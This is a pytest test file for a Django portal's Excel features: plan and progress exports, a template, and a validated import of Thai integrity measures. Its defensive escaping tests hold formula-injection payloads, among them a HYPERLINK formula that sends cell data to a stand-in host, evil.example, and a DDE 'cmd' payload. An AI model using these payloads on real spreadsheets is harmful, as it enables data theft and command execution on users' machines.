"""Excel for measures: the plan and progress exports, the plan template and the all-or-nothing import."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from assessments import importing
from assessments.models import AnalysisIssue
from itaportal.accounts.models import Department, Organisation, Position, User
from measures import excel
from measures.models import Evidence, Measure, ProgressEntry
from measures.services.plan import MeasureData, measure_create, rounds_configure
from measures.services.progress import ActivityData, progress_save

pytestmark = pytest.mark.django_db

YEAR = 2568
TITLE_ROW, ORG_ROW, HEADER_ROW, FIRST = 1, 2, 3, 4
PLAN_HEADERS = [
    "ลำดับ",
    "ประเด็น",
    "มาตรการ/โครงการ/กิจกรรม",
    "ประเภท",
    "ขั้นตอนหรือวิธีปฏิบัติ",
    "ระยะเวลา",
    "ผู้รับผิดชอบ",
    "การกำกับติดตาม",
    "งบประมาณ",
    "เป้าหมาย",
]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CODES = ["issues", "title", "kind", "steps", "start", "end", "units", "monitoring", "budget", "target"]


@pytest.fixture
def phusang():
    organisation = Organisation.objects.get(slug="phusang")
    # The demo may plan this year already; each test starts from an empty plan.
    Measure.objects.filter(organisation=organisation, fiscal_year=YEAR).delete()
    return organisation


def unit(name: str, slug: str = "phusang") -> Department:
    return Department.objects.get(organisation__slug=slug, name=name)


def issue(order: int) -> AnalysisIssue:
    return AnalysisIssue.objects.get(
        assessment__organisation__slug="phusang", assessment__framework__fiscal_year=YEAR - 1, order=order
    )


def add_measure(organisation, title="จัดทำคู่มือการปฏิบัติงาน", **fields) -> Measure:
    fields.setdefault("all_units", not (fields.get("departments") or fields.get("positions")))
    data = MeasureData(
        kind=fields.pop("kind", "measure"), title=title, steps=fields.pop("steps", ["ประชุมชี้แจง"]), **fields
    )
    return measure_create(organisation=organisation, fiscal_year=YEAR, data=data)


def url(name: str, *args, slug: str = "phusang") -> str:
    return reverse(name, args=[slug, *args])


def sheet_of(response):
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(response.content)).worksheets[0]


def xlsx_file(rows: list[list], name: str = "plan.xlsx") -> io.BytesIO:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    buffer.name = name
    return buffer


def csv_file(rows: list[list], name: str = "plan.csv") -> io.BytesIO:
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    buffer = io.BytesIO(text.getvalue().encode("utf-8-sig"))
    buffer.name = name
    return buffer


def row(**cells) -> list:
    return [cells.get(code, "") for code in CODES]


def run_import(organisation, rows: list[list]):
    # Messages are made in the language of the request; these tests read them in English.
    with translation.override("en"):
        return excel.import_plan(organisation=organisation, year=YEAR, table=[[str(c) for c in r] for r in rows])


def english(client):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def plan_of(organisation) -> list[Measure]:
    return list(Measure.objects.filter(organisation=organisation, fiscal_year=YEAR).order_by("number"))


# --- plan export ------------------------------------------------------------------------------------


class TestPlanExport:
    def test_it_works(self, phusang, login):
        add_measure(phusang, title="ประกาศเจตจำนงสุจริต", steps=["จัดทำประกาศ", "เผยแพร่ทางเว็บไซต์"])
        add_measure(
            phusang,
            title="จัดทำแผนการใช้ทรัพย์สินของราชการ",
            kind="project",
            departments=[unit("สำนักปลัด"), unit("กองคลัง")],
            positions=[Position.objects.get(organisation=phusang, title="ปลัด")],
            issues=[issue(4)],
            start_date=date(2025, 1, 12),
            end_date=date(2025, 3, 31),
            planned_budget=Decimal("15000.50"),
            monitoring="รายงานผลรอบ 6 เดือน",
        )
        sheet = sheet_of(login("staff.phusang").get(url("plan_export", YEAR)))

        assert sheet.cell(TITLE_ROW, 1).value == (
            "แผนมาตรการส่งเสริมคุณธรรมและความโปร่งใสภายในหน่วยงาน ประจำปีงบประมาณ พ.ศ. ๒๕๖๘"
        )
        assert sheet.cell(ORG_ROW, 1).value == "องค์การบริหารส่วนตำบลภูซาง อำเภอภูซาง จังหวัดพะเยา"
        assert [cell.value for cell in sheet[HEADER_ROW]] == PLAN_HEADERS
        first = [cell.value for cell in sheet[FIRST]]
        assert first[0] == 1
        assert first[2] == "ประกาศเจตจำนงสุจริต"
        assert first[3] == "มาตรการ"
        assert first[4] == "๑. จัดทำประกาศ\n๒. เผยแพร่ทางเว็บไซต์"
        assert first[5] == "๑ ต.ค. ๖๗ – ๓๐ ก.ย. ๖๘"
        assert first[6] == "ทุกสำนัก ทุกกอง"
        assert first[8] is None
        second = [cell.value for cell in sheet[FIRST + 1]]
        assert second[0] == 2
        assert second[1] == "กระบวนการกำกับดูแลการใช้ทรัพย์สินของราชการ"
        assert second[3] == "โครงการ"
        assert second[5] == "๑๒ ม.ค. ๖๘ – ๓๑ มี.ค. ๖๘"
        assert second[6] == "สำนักปลัด\nกองคลัง\nปลัดองค์การบริหารส่วนตำบลภูซาง"
        assert second[7] == "รายงานผลรอบ ๖ เดือน"
        assert second[8] == 15000.5
        assert sheet.cell(FIRST + 1, 9).number_format == "#,##0.00"
        assert sheet.max_row == FIRST + 1

    def test_it_is_formatted_for_print(self, phusang, login):
        add_measure(phusang)
        sheet = sheet_of(login("staff.phusang").get(url("plan_export", YEAR)))
        header = sheet.cell(HEADER_ROW, 3)
        assert header.font.bold and header.font.name == "Sarabun"
        assert header.fill.fgColor.rgb.endswith("D9E2F3")
        assert sheet.cell(FIRST, 5).font.name == "Sarabun"
        assert sheet.cell(FIRST, 5).alignment.wrap_text
        assert sheet.freeze_panes == "A4"
        assert sheet.print_title_rows == "$3:$3"
        assert sheet.page_setup.orientation == "landscape"
        assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
        # Wide enough for the steps, narrow enough to print.
        assert 24 <= sheet.column_dimensions["E"].width <= 50

    def test_it_escapes_a_formula_typed_as_a_title(self, phusang, login):
        hostile = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
        add_measure(phusang, title=hostile, target="+1", monitoring="@SUM(A1)")
        sheet = sheet_of(login("staff.phusang").get(url("plan_export", YEAR)))
        title = sheet.cell(FIRST, 3)
        assert title.value == "'" + hostile
        assert title.data_type == "s"
        assert sheet.cell(FIRST, 10).value == "'+๑"
        assert sheet.cell(FIRST, 8).value == "'@SUM(A๑)"

    def test_an_empty_plan_has_its_header(self, phusang, login):
        sheet = sheet_of(login("auditor.phusang").get(url("plan_export", YEAR)))
        assert [cell.value for cell in sheet[HEADER_ROW]] == PLAN_HEADERS
        assert sheet.max_row == HEADER_ROW


# --- progress export ----------------------------------------------------------------------------------


@pytest.fixture
def reported(phusang):
    """A round with one reported measure (activities, a link and a file) and one not reported."""
    rounds = rounds_configure(organisation=phusang, fiscal_year=YEAR, scheme="half")
    measure = add_measure(phusang, title="เผยแพร่ข้อมูลข่าวสาร", departments=[unit("สำนักปลัด")])
    add_measure(phusang, title="ยังไม่รายงาน")
    user = User.objects.get(username="staff.phusang")
    entry = progress_save(
        measure=measure,
        round=rounds[0],
        user=user,
        status=ProgressEntry.Status.IN_PROGRESS,
        outcome="ประชาชนเข้าถึงข้อมูล 120 คน",
        suggestions="ควรเพิ่มช่องทาง",
        budget_used=Decimal("2500"),
        activities=[
            ActivityData(date(2025, 1, 12), "ประชุมชี้แจงเจ้าหน้าที่"),
            ActivityData(date(2025, 2, 3), "เผยแพร่ประกาศ"),
        ],
    )
    Evidence.objects.create(entry=entry, kind="link", title="ประกาศ", url="https://phusang.go.th/news/2568")
    Evidence.objects.create(entry=entry, kind="file", title="", original_name="คำสั่ง.pdf")
    return rounds[0]


class TestProgressExport:
    def test_it_works(self, reported, login):
        sheet = sheet_of(login("auditor.phusang").get(url("progress_export", YEAR, reported.pk)))
        assert sheet.cell(TITLE_ROW, 1).value.startswith("รายงานผลการดำเนินการตามมาตรการ")
        assert sheet.cell(TITLE_ROW, 1).value.endswith("พ.ศ. ๒๕๖๘")
        assert "๑ ต.ค. ๖๗ – ๓๑ มี.ค. ๖๘" in sheet.cell(2, 1).value
        headers = [cell.value for cell in sheet[4]]
        assert headers[:3] == ["ลำดับ", "มาตรการ", "วิธีดำเนินการ"]
        assert headers[-1] == "หลักฐาน"
        values = [cell.value for cell in sheet[5]]
        assert values[0] == 1
        assert values[1] == "เผยแพร่ข้อมูลข่าวสาร"
        assert values[2] == "๑. ประชุมชี้แจง"
        assert values[3] == "สำนักปลัด"
        assert values[5] == "อยู่ระหว่างดำเนินการ"
        assert values[6] == "๑๒ ม.ค. ๖๘ – ประชุมชี้แจงเจ้าหน้าที่\n๓ ก.พ. ๖๘ – เผยแพร่ประกาศ"
        assert values[7] == "ประชาชนเข้าถึงข้อมูล ๑๒๐ คน"
        assert values[8] == "ควรเพิ่มช่องทาง"
        assert values[9] == 2500
        link, file = values[10].split("\n")
        # The address keeps its Arabic digits, or the link would break.
        assert link == "ประกาศ https://phusang.go.th/news/2568"
        evidence = Evidence.objects.get(original_name="คำสั่ง.pdf")
        download = reverse("evidence_download", args=["phusang", evidence.pk])
        assert file == f"คำสั่ง.pdf http://testserver{download}"
        unreported = [cell.value for cell in sheet[6]]
        assert unreported[1] == "ยังไม่รายงาน"
        assert unreported[5] == "ยังไม่ได้ดำเนินการ"
        assert unreported[6] is None and unreported[9] is None

    def test_it_keeps_a_constant_number_of_queries(self, reported, phusang, login):
        client = login("staff.phusang")
        # The first page of an organisation remembers it in the session (a write the later pages skip).
        client.get("/o/phusang/")
        positions = Position.objects.filter(organisation=phusang)
        add_measure(phusang, departments=[unit("กองคลัง")], positions=[positions[0]], issues=[issue(2)])
        with CaptureQueriesContext(connection) as few:
            client.get(url("progress_export", YEAR, reported.pk))
        for number in range(5):
            add_measure(
                phusang,
                title=f"เพิ่ม {number}",
                departments=[unit("กองช่าง")],
                positions=[positions[number]],
                issues=[issue(number + 1)],
            )
        with CaptureQueriesContext(connection) as many:
            client.get(url("progress_export", YEAR, reported.pk))
        assert len(many) == len(few)

    def test_it_escapes_formulas_in_the_report(self, reported, login):
        entry = ProgressEntry.objects.get(round=reported)
        entry.outcome = "=cmd|' /C calc'!A"
        entry.save()
        sheet = sheet_of(login("staff.phusang").get(url("progress_export", YEAR, reported.pk)))
        assert sheet.cell(5, 8).value == "'=cmd|' /C calc'!A"
        assert sheet.cell(5, 8).data_type == "s"

    def test_a_round_of_another_year_is_not_found(self, reported, login):
        assert login("staff.phusang").get(url("progress_export", YEAR + 1, reported.pk)).status_code == 404


# --- import ---------------------------------------------------------------------------------------------


GOOD_ROWS = [
    CODES,
    [excel.IMPORT_COLUMNS[i].label for i in range(len(CODES))],
    row(
        issues="4, ๗",
        title="จัดทำแผนการใช้ทรัพย์สินของราชการ",
        kind="โครงการ",
        steps="- สำรวจทรัพย์สิน\n- จัดทำแผน\n\n- รายงานผู้บริหาร",
        start="1 ต.ค. 2567",
        end="๓๑ มี.ค. ๖๘",
        units="สำนักปลัด, กองคลัง\nปลัด",
        monitoring="รายงานผลรอบ ๖ เดือน",
        budget="15,000.50",
        target="ร้อยละ 100",
    ),
    row(title="ประกาศเจตจำนงสุจริต", steps="1. จัดทำประกาศ\n2) เผยแพร่", units="ทุกสำนัก ทุกกอง", budget="-"),
]


class TestImport:
    def test_it_creates_the_measures_in_order(self, phusang, login):
        response = login("staff.phusang").post(url("plan_import", YEAR), {"file": xlsx_file(GOOD_ROWS)})
        assert response.status_code == 302
        assert response["Location"] == url("measure_plan", YEAR)

        first, second = plan_of(phusang)
        assert (first.number, first.title, first.kind) == (1, "จัดทำแผนการใช้ทรัพย์สินของราชการ", "project")
        steps = [s.text for s in first.steps.order_by("order")]
        assert steps == ["สำรวจทรัพย์สิน", "จัดทำแผน", "รายงานผู้บริหาร"]
        assert (first.start_date, first.end_date) == (date(2024, 10, 1), date(2025, 3, 31))
        assert {d.name for d in first.departments.all()} == {"สำนักปลัด", "กองคลัง"}
        assert [p.title for p in first.positions.all()] == ["ปลัด"]
        assert not first.all_units
        assert sorted(i.order for i in first.issues.all()) == [4, 7]
        assert first.planned_budget == Decimal("15000.50")
        assert (first.monitoring, first.target) == ("รายงานผลรอบ ๖ เดือน", "ร้อยละ 100")
        assert (second.number, second.kind, second.all_units) == (2, "measure", True)
        assert [s.text for s in second.steps.order_by("order")] == ["จัดทำประกาศ", "เผยแพร่"]
        assert (second.start_date, second.end_date) == (date(2024, 10, 1), date(2025, 9, 30))
        assert second.planned_budget is None
        assert not second.departments.exists()

    def test_it_reads_csv_with_thai_column_names(self, phusang, login):
        labels = {c.code: c.label for c in excel.IMPORT_COLUMNS}
        rows = [
            [labels["title"], labels["units"], labels["start"], labels["steps"]],
            ["จัดทำคู่มือ", "กองช่าง", "2024-11-01", "- ร่างคู่มือ"],
        ]
        response = login("admin.phusang").post(url("plan_import", YEAR), {"file": csv_file(rows)})
        assert response.status_code == 302
        (measure,) = plan_of(phusang)
        assert measure.start_date == date(2024, 11, 1)
        assert [d.name for d in measure.departments.all()] == ["กองช่าง"]
        assert [s.text for s in measure.steps.all()] == ["ร่างคู่มือ"]

    def test_it_adds_after_the_existing_measures(self, phusang):
        add_measure(phusang)
        assert not run_import(phusang, GOOD_ROWS).errors
        assert [m.number for m in plan_of(phusang)] == [1, 2, 3]
        assert plan_of(phusang)[1].title == "จัดทำแผนการใช้ทรัพย์สินของราชการ"

    def test_a_bad_row_imports_nothing_and_names_every_cell(self, phusang, login):
        rows = GOOD_ROWS[:3] + [
            row(title="มาตรการที่ผิด", units="สำนักปลัด\nกองสาธารณสุข", start="31 ก.พ. 2568", issues="9")
        ]
        response = english(login("staff.phusang")).post(url("plan_import", YEAR), {"file": xlsx_file(rows)})
        assert response.status_code == 200
        assert plan_of(phusang) == []
        errors = [(e.row, e.column_letter, e.header) for e in response.context["errors"]]
        assert errors == [(4, "A", "issues"), (4, "E", "start"), (4, "G", "units")]
        messages = {e.column_letter: e.message for e in response.context["errors"]}
        assert "กองสาธารณสุข" in messages["G"] and "สำนักปลัด," in messages["G"]
        # The same reader as every date box: it names what is wrong with the date.
        assert messages["E"] == "February 2568 has 28 days: there is no day 31."
        assert "1, 2, 3, 4, 5, 6, 7" in messages["A"]
        with translation.override("en"):
            assert str(response.context["errors"][2]).startswith("row 4, column G (units): Unknown unit")
        assert "กองสาธารณสุข" in response.content.decode()

    def test_it_checks_the_period(self, phusang):
        errors = run_import(
            phusang,
            [
                CODES,
                row(title="ก", units="all", start="1 ต.ค. 2568"),
                row(title="ข", units="all", start="2025-03-01", end="1/2/2568"),
                row(title="ค", units="ALL", end="30 ก.ย. 68 "),
            ],
        ).errors
        assert [(e.row, e.column_letter) for e in errors] == [(2, "E"), (3, "F")]
        assert "fiscal year 2568" in errors[0].message
        assert plan_of(phusang) == []

    @pytest.mark.parametrize("cell", ["=1+1", "+66", "@SUM(A1)", "-ลบ", "-1", "=HYPERLINK(\"x\")"])
    def test_a_formula_is_refused(self, phusang, cell):
        errors = run_import(phusang, [CODES, row(title="มาตรการ", units="all", steps=cell)]).errors
        assert [(e.row, e.column_letter) for e in errors] == [(2, "D")]
        assert "Formulas" in errors[0].message
        assert plan_of(phusang) == []

    def test_a_formula_in_an_xlsx_is_refused_not_evaluated(self, phusang):
        upload = xlsx_file([CODES, row(title="มาตรการ", units="all", budget="=SUM(1,2)")])
        table = importing.read_table(upload, "p.xlsx")
        errors = run_import(phusang, table).errors
        assert [(e.row, e.column_letter, e.header) for e in errors] == [(2, "I", "budget")]

    def test_a_required_cell_and_column(self, phusang):
        errors = run_import(phusang, [CODES, row(steps="- ขั้นตอน")]).errors
        assert [(e.row, e.column_letter) for e in errors] == [(2, "B"), (2, "G")]
        errors = run_import(phusang, [["title", "colour"], ["มาตรการ", "แดง"]]).errors
        assert [(e.row, e.column_letter, e.header) for e in errors] == [(1, "B", "colour"), (1, "", "units")]

    def test_dash_lines_and_a_lone_dash_are_text(self, phusang):
        result = run_import(
            phusang, [CODES, row(title="มาตรการ", units="all", steps="- หนึ่ง\n-สอง", target="-", budget="-")]
        )
        assert not result.errors
        (measure,) = result.created
        assert [s.text for s in measure.steps.all()] == ["หนึ่ง", "-สอง"]
        assert measure.target == "-"

    def test_a_file_that_is_not_a_workbook_is_refused(self, phusang, login):
        upload = io.BytesIO(b"MZ\x90\x00 not a workbook")
        upload.name = "plan.xlsx"
        response = english(login("staff.phusang")).post(url("plan_import", YEAR), {"file": upload})
        assert response.status_code == 200
        assert "not a valid XLSX" in str(response.context["form"].errors["file"])
        assert plan_of(phusang) == []

    def test_the_size_limits_of_the_score_import_apply(self, phusang, login, monkeypatch):
        monkeypatch.setattr(importing, "MAX_FILE_BYTES", 100)
        response = login("staff.phusang").post(url("plan_import", YEAR), {"file": xlsx_file(GOOD_ROWS)})
        assert response.status_code == 200
        assert response.context["form"].errors["file"]
        assert plan_of(phusang) == []

    def test_too_many_measures_are_refused(self, phusang, login, monkeypatch):
        monkeypatch.setattr(excel, "MAX_MEASURES", 1)
        client = english(login("staff.phusang"))
        response = client.post(url("plan_import", YEAR), {"file": xlsx_file(GOOD_ROWS)})
        assert "more than 1 measures" in " ".join(response.context["form"].errors["file"])
        assert plan_of(phusang) == []

    def test_the_page_shows_the_form_and_template(self, phusang, login):
        response = login("admin.phusang").get(url("plan_import", YEAR))
        assert response.status_code == 200
        assert url("plan_template", YEAR) in response.content.decode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-10-01", date(2024, 10, 1)),
        ("2024-10-01 00:00:00", date(2024, 10, 1)),
        ("2567-10-01", date(2024, 10, 1)),
        ("1/10/2567", date(2024, 10, 1)),
        ("1 ต.ค. 2567", date(2024, 10, 1)),
        ("๑ ต.ค. ๖๗", date(2024, 10, 1)),
        ("1 ตุลาคม 2567", date(2024, 10, 1)),
        ("30ก.ย.68", date(2025, 9, 30)),
        ("31 ก.พ. 2568", None),
        ("1 ตค 2024", date(2024, 10, 1)),
        ("1 October 2024", None),
        ("ต.ค. 67", None),
    ],
)
def test_parse_date(text, expected):
    assert excel.parse_date(text) == expected


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ("=A1", True),
        ("+1", True),
        ("@x", True),
        ("-1", True),
        ("-x", True),
        ("- x", False),
        ("-", False),
        ("ก-ข", False),
    ],
)
def test_is_formula(text, refused):
    assert excel.is_formula(text) is refused


# --- template ---------------------------------------------------------------------------------------------


class TestTemplate:
    def test_it_works_and_imports_as_it_is(self, phusang, login):
        client = login("staff.phusang")
        response = client.get(url("plan_template", YEAR))
        sheet = sheet_of(response)
        assert [c.value for c in sheet[1]] == CODES
        assert [c.value for c in sheet[2]] == [c.label for c in excel.IMPORT_COLUMNS]
        example = {code: cell.value for code, cell in zip(CODES, sheet[3], strict=True)}
        assert example["start"] == "1 ต.ค. 2567" and example["end"] == "30 ก.ย. 2568"
        assert example["units"] == "สำนักปลัด\nกองคลัง"
        assert example["issues"] == "1"
        assert load_workbook(io.BytesIO(response.content)).sheetnames[0] == "plan"

        upload = io.BytesIO(response.content)
        upload.name = "template.xlsx"
        assert client.post(url("plan_import", YEAR), {"file": upload}).status_code == 302
        (measure,) = plan_of(phusang)
        assert measure.steps.count() == 3
        assert [i.order for i in measure.issues.all()] == [1]


# --- access ---------------------------------------------------------------------------------------------


@pytest.fixture
def phusang_round(phusang):
    return rounds_configure(organisation=phusang, fiscal_year=YEAR, scheme="half")[0]


def all_urls(round_pk: int, slug: str = "phusang") -> list[str]:
    return [
        url("plan_export", YEAR, slug=slug),
        url("progress_export", YEAR, round_pk, slug=slug),
        url("plan_import", YEAR, slug=slug),
        url("plan_template", YEAR, slug=slug),
    ]


class TestAccess:
    def test_another_organisation_gets_404(self, phusang_round, login):
        client = login("admin.nasom")
        for address in all_urls(phusang_round.pk):
            assert client.get(address).status_code == 404, address
        assert client.post(url("plan_import", YEAR), {"file": xlsx_file(GOOD_ROWS)}).status_code == 404

    def test_a_guessed_round_of_another_organisation_gets_404(self, phusang_round, login):
        response = login("admin.nasom").get(url("progress_export", YEAR, phusang_round.pk, slug="nasom"))
        assert response.status_code == 404

    @pytest.mark.parametrize("username", ["auditor.phusang", "head.phusang"])
    def test_readers_export_but_cannot_import(self, phusang, phusang_round, login, username):
        client = login(username)
        assert client.get(url("plan_export", YEAR)).status_code == 200
        assert client.get(url("progress_export", YEAR, phusang_round.pk)).status_code == 200
        assert client.get(url("plan_template", YEAR)).status_code == 403
        assert client.get(url("plan_import", YEAR)).status_code == 403
        assert client.post(url("plan_import", YEAR), {"file": xlsx_file(GOOD_ROWS)}).status_code == 403
        assert plan_of(phusang) == []

    def test_it_requires_login(self, phusang_round, client):
        for address in all_urls(phusang_round.pk):
            assert client.get(address).status_code == 302

    def test_methods(self, phusang, phusang_round, login):
        client = login("admin.phusang")
        exports = all_urls(phusang_round.pk)
        for address in (exports[0], exports[1], exports[3]):
            assert client.post(address).status_code == 405, address
        assert client.put(url("plan_import", YEAR)).status_code == 405
        assert client.delete(url("plan_import", YEAR)).status_code == 405

    def test_a_year_out_of_range_is_not_found(self, phusang, login):
        client = login("admin.phusang")
        assert client.get(url("plan_template", 12)).status_code == 404
        assert client.get(url("plan_export", 9999)).status_code == 404
